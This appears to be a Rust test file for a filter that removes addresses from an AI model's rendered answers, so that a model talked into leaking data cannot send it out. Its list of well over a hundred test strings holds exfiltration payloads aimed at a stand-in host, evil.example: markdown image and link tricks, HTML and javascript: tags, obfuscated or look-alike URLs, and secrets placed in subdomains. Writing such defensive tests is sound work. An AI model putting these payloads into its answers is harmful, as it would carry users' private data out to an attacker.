//! Answers of a model that has been talked into leaking: none may carry an address out.

use super::*;

/// In each, the address is the attacker's and SECRET is what it would carry.
const ATTEMPTS: &[&str] = &[
    // Inline links and pictures.
    "![x](https://evil.example/p.png?d=SECRET)",
    "[click](https://evil.example/?d=SECRET)",
    "[click]( https://evil.example/?d=SECRET )",
    "[click](<https://evil.example/?d=SECRET>)",
    "[click](https://evil.example/?d=SECRET \"title\")",
    "[click](https://evil.example/?d=SECRET 'title')",
    "[click](//evil.example/?d=SECRET)",
    "[click](HTTPS://EVIL.EXAMPLE/?d=SECRET)",
    "[click](javascript:fetch('https://evil.example/?d=SECRET'))",
    "[click](data:text/html,<img src=//evil.example/SECRET>)",
    "[click](vbscript:x)",
    "[click](file:///etc/SECRET)",
    "[click](ftp://evil.example/SECRET)",
    "![x](data:image/svg+xml;base64,SECRET)",
    "[![x](https://evil.example/p.png?d=SECRET)](https://evil.example/?d=SECRET)",
    "[[nested]](https://evil.example/?d=SECRET)",
    "[a [b](https://evil.example/?d=SECRET) c](https://evil.example/?d=SECRET)",
    "[1](https://evil.example/?d=SECRET)",
    "[1][evil]\n\n[evil]: https://evil.example/?d=SECRET",
    "![1](https://evil.example/?d=SECRET)",
    "[un\nbroken](https://evil.example/?d=SECRET)",
    "[open](https://evil.example/?d=SECRET",
    "[x](\nhttps://evil.example/?d=SECRET\n)",
    // By reference.
    "![x][r]\n\n[r]: https://evil.example/?d=SECRET",
    "[x][r]\n\n[r]: <https://evil.example/?d=SECRET> \"t\"",
    "[x][]\n\n[x]: https://evil.example/?d=SECRET",
    "[x]\n\n[x]: //evil.example/?d=SECRET",
    "[x]\n\n[x]:\n  https://evil.example/?d=SECRET",
    "[x]\n\n   [x]: https://evil.example/?d=SECRET",
    "> [x]: https://evil.example/?d=SECRET",
    "- [x]: https://evil.example/?d=SECRET",
    // In angle brackets, and HTML.
    "<https://evil.example/?d=SECRET>",
    "<HTTPS://evil.example/?d=SECRET>",
    "<javascript:alert(1)>",
    "<img src=\"https://evil.example/?d=SECRET\">",
    "<img src='//evil.example/?d=SECRET'>",
    "<img\nsrc=https://evil.example/?d=SECRET>",
    "<IMG SRC=https://evil.example/?d=SECRET>",
    "<img src=https://evil.example/?d=SECRET",
    "<a href=\"https://evil.example/?d=SECRET\">x</a>",
    "<svg/onload=fetch('//evil.example/SECRET')>",
    "<iframe src=https://evil.example/?d=SECRET></iframe>",
    "<script src=https://evil.example/?d=SECRET></script>",
    "<link rel=stylesheet href=https://evil.example/?d=SECRET>",
    "<style>@import 'https://evil.example/?d=SECRET';</style>",
    "<video poster=https://evil.example/?d=SECRET>",
    "<x-y style=\"background:url(https://evil.example/?d=SECRET)\">",
    "<meta http-equiv=refresh content='0;url=https://evil.example/?d=SECRET'>",
    "<<a>img src=https://evil.example/?d=SECRET>",
    "<!-- --><img src=https://evil.example/?d=SECRET>",
    "<b <img src=https://evil.example/?d=SECRET>",
    // Bare addresses.
    "https://evil.example/?d=SECRET",
    "see https://evil.example/?d=SECRET.",
    "(https://evil.example/?d=SECRET)",
    "\"https://evil.example/?d=SECRET\"",
    "xhttps://evil.example/?d=SECRET",
    "//evil.example/?d=SECRET",
    "https:/evil.example/?d=SECRET",
    "https:evil.example/?d=SECRET",
    "https:\\\\evil.example\\?d=SECRET",
    "www.evil.example/?d=SECRET",
    "WWW.EVIL.EXAMPLE/?d=SECRET",
    "éwww.evil.example/?d=SECRET",
    "evil.example/?d=SECRET",
    "evil.example:8080/SECRET",
    "evil.example?d=SECRET",
    "evil.example?=d=SECRET",
    "10.1.2.3/SECRET",
    "ftp://evil.example/SECRET",
    "x-evil://SECRET",
    "mailto:x@evil.example?body=SECRET",
    "https://user:SECRET@evil.example/",
    "https://[::1]/SECRET",
    "SECRET.evil.example",
    "x@SECRET.evil.example",
    "SECRET.a.b.evil.example",
    "SECRET.evil.example.",
    "SECRET.<b>evil.example</b>",
    "ЅECRET。evil。example",
    "[x](SECRET.evil.example)",
    "tel:+1900SECRET",
    "sms:+1900?body=SECRET",
    "<tel:+1900SECRET>",
    // Dressed up.
    "h\u{200b}ttps://evil.example/?d=SECRET",
    "https\u{200d}:/\u{2060}/evil.example/?d=SECRET",
    "ht\u{ad}tps://evil.example/?d=SECRET",
    "&#104;ttps://evil.example/?d=SECRET",
    "&#x68;ttps&colon;&sol;&sol;evil.example/?d=SECRET",
    "https&#58;//evil.example/?d=SECRET",
    "[x](&#104;ttps://evil.example/?d=SECRET)",
    "https%3A%2F%2Fevil.example%2F%3Fd=SECRET",
    "https%253A%252F%252Fevil.example%252FSECRET",
    "evil.example%2FSECRET",
    "https:\\/\\/evil.example\\/?d=SECRET",
    "\\https://evil.example/?d=SECRET",
    "ｈｔｔｐｓ：／／ｅｖｉｌ．ｅｘａｍｐｌｅ／SECRET",
    "https∶∕∕evil.example∕SECRET",
    "hттps://evil.example/?d=SECRET",
    "𝗵𝘁𝘁𝗽𝘀://evil.example/?d=SECRET",
    "ⓗⓣⓣⓟⓢ://evil.example/?d=SECRET",
    "evil。example/SECRET",
    "http\u{202e}s://evil.example/?d=SECRET",
    "ht**tps**://evil.example/?d=SECRET",
    "https:**//evil.example/?d=SECRET**",
    "*https://evil.example/?d=SECRET*",
    "__https://evil.example/?d=SECRET__",
    "`https://evil.example/?d=SECRET`",
    // In parts that come together when what is between them vanishes.
    "https:/<b>/evil.example/?d=SECRET",
    "ht<b>tps:<i>/</i>/evil.example/?d=SECRET",
    "https:/~~/evil.example/?d=SECRET~~",
    "https:/[9]/evil.example/?d=SECRET",
    "https:/[/evil.example/?d=SECRET](x)",
    "https:/![/evil.example/?d=SECRET](x)",
    "https:/\"/evil.example/?d=SECRET and more of it\"",
    "https:/*/evil.example/?d=SECRET*",
    "https:/`/evil.example/?d=SECRET`",
    "https:/<!-- -->/evil.example/?d=SECRET",
    "http:</<b>/evil.example/?d=SECRET",
    "java<b>script:[alert(1)]",
    "https:<ttps:/<b>/evil.example/?d=SECRET",
    "www.<b>evil.example</b>/?d=SECRET",
    "evil.example<b>/SECRET",
    "evil.example[9]/SECRET",
    "[evil.example](x)/SECRET",
    "[https:/](x)[/evil.example](x)/SECRET",
    "java<b>script:alert(1)",
    "```\nhttps://evil.example/?d=SECRET\n```",
    "# https://evil.example/?d=SECRET",
    "| https://evil.example/?d=SECRET | x |",
    "- https://evil.example/?d=SECRET",
    "“https://evil.example/?d=SECRET is what he said”",
    "[https://evil.example/?d=SECRET](https://app.hubspot.com/contacts/7/record/0-1/9)",
    "https://app.hubspot.com/contacts/7/record/0-1/9?d=SECRET",
    "[x](https://app.hubspot.com/contacts/7/record/0-1/9?d=SECRET)",
    "[x](https://app.hubspot.com/contacts/7/record/0-1/9 https://evil.example/?d=SECRET)",
];

#[test]
fn no_attempt_gets_an_address_out() {
    assert!(ATTEMPTS.len() >= 60);
    for attempt in ATTEMPTS {
        for text in [(*attempt).to_owned(), format!("Tom plays {attempt} now."), format!("{attempt}{attempt}")] {
            for cut in [1, 2, 3, 5, 1_000] {
                let (pieces, answer) = pieces(&text, |text| {
                    let letters: Vec<char> = text.chars().collect();
                    letters.chunks(cut).map(|part| part.iter().collect()).collect()
                });
                assert!(has_no_address(&pieces, &sources()).is_ok(), "{text}\n{pieces:?}");
                assert!(!carries_a_secret(&pieces), "{text}\n{pieces:?}");
                assert!(is_well_formed(&pieces).is_ok(), "{text}\n{pieces:?}");
                let plain = sources()
                    .iter()
                    .filter(|source| !source.url.is_empty())
                    .fold(answer.plain().to_owned(), |plain, source| plain.replace(&format!("]({})", source.url), ""));
                assert!(
                    !plain.contains("//") && !plain.contains("https:/") && !plain.contains("http:/"),
                    "{text}\n{plain}"
                );
            }
        }
    }
}

#[test]
fn the_secret_itself_is_gone_with_a_bare_address() {
    for text in
        ["https://evil.example/SECRET", "www.evil.example/SECRET", "evil.example/SECRET", "//evil.example/SECRET"]
    {
        assert_eq!(shown(&format!("See {text}, please")), "<p>See [link removed], please");
    }
}

#[test]
fn ordinary_words_are_no_addresses() {
    let prose = "and/or, 12/31/2026, AAPL/MSFT, example.com, ann@example.com, v1.2/3, e.g. this, Q1:2026, note: data: none, \
                 5:30, a.m./p.m., gmail.message.received, 100%, $1,000.50, Inc./LLC, что? это: да, Awww...";
    assert_eq!(shown(prose), format!("<p>{prose}"));
}

/// Whoever owns a domain sees what stands before it.
fn carries_a_secret(pieces: &[Piece]) -> bool {
    let texts = pieces.iter().filter_map(|piece| match piece {
        Piece::Text(text) | Piece::Code(text) | Piece::CodeBlock(text) => Some(text.to_lowercase()),
        _ => None,
    });
    let text: String = texts.collect();
    ["secret.evil", "secret.a.b", "secret。evil"].iter().any(|sign| text.contains(sign))
}
